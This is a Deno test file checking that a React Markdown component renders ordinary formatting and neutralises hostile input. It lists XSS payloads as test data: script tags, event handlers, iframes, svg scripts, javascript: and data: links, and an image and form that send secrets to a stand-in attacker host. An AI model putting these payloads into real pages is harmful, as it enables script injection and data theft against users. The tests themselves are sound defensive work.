import assert from "node:assert/strict";
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { LanguageProvider } from "../i18n/language.tsx";
import { Markdown } from "./markdown.tsx";
import { safeAddress } from "./safe-address.ts";

// The language of a copy button is the browser's; there is none here.
globalThis.localStorage?.clear?.();

function html(text: string, unfinished = false): string {
  return renderToStaticMarkup(
    createElement(LanguageProvider, null, createElement(Markdown, { text, unfinished })),
  );
}

Deno.test("Markdown writes what it is written for", () => {
  const written = html("# Title\n\nSome **bold** and `code`.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n");
  for (const part of ["<h3>Title</h3>", "<strong>bold</strong>", "<code>code</code>", "<li>", "<td>1</td>"]) {
    assert.ok(written.includes(part), `${part} is not in ${written}`);
  }
});

for (
  const [name, text] of Object.entries({
    "a script": "<script>alert(1)</script>",
    "an event handler": '<img src="x" onerror="alert(1)">',
    "a handler in a block": '<div onclick="alert(1)">\n\nclick\n\n</div>',
    "a frame": '<iframe src="https://evil.example"></iframe>',
    "a style": "<style>body{display:none}</style>",
    "an svg": "<svg><script>alert(1)</script></svg>",
    "a comment that ends in a script": "<!-- --><script>alert(1)</script>",
    "a component": "<Component onClick={() => alert(1)} />",
    "a picture": "![secret](https://evil.example/pixel.png?data=secret)",
    "a form": '<form action="https://evil.example"><input name="password"></form>',
  })
) {
  Deno.test(`Markdown leaves ${name} without effect`, () => {
    for (const unfinished of [false, true]) {
      const written = html(`Before ${text} after\n\n${text}\n`, unfinished);
      assert.doesNotMatch(written, /<(script|img|iframe|style|svg|form|input|component)/i, written);
      assert.doesNotMatch(written.replace(/&[a-z#0-9]+;/g, "").replace(/>[^<]*</g, "><"), /\son\w+=/i, written);
    }
  });
}

Deno.test("Markdown links only outwards", () => {
  for (
    const address of [
      "javascript:alert(1)",
      "JaVaScRiPt:alert(1)",
      "data:text/html,x",
      "vbscript:x",
      "/demo/keys",
      "//evil.example",
    ]
  ) {
    assert.doesNotMatch(html(`[here](${address})`), /href/, address);
    assert.doesNotMatch(html(`[here][1]\n\n[1]: ${address}`), /href/, address);
    assert.equal(safeAddress(address), null);
  }
  assert.match(
    html("[here](https://example.org/a?b=1)"),
    /<a href="https:\/\/example.org\/a\?b=1" target="_blank" rel="noopener noreferrer nofollow">here<\/a>/,
  );
});

Deno.test("Markdown gives headings no id that could be the page's", () => {
  assert.doesNotMatch(html("# content\n\n## app\n"), /id="(content|app)"/);
});
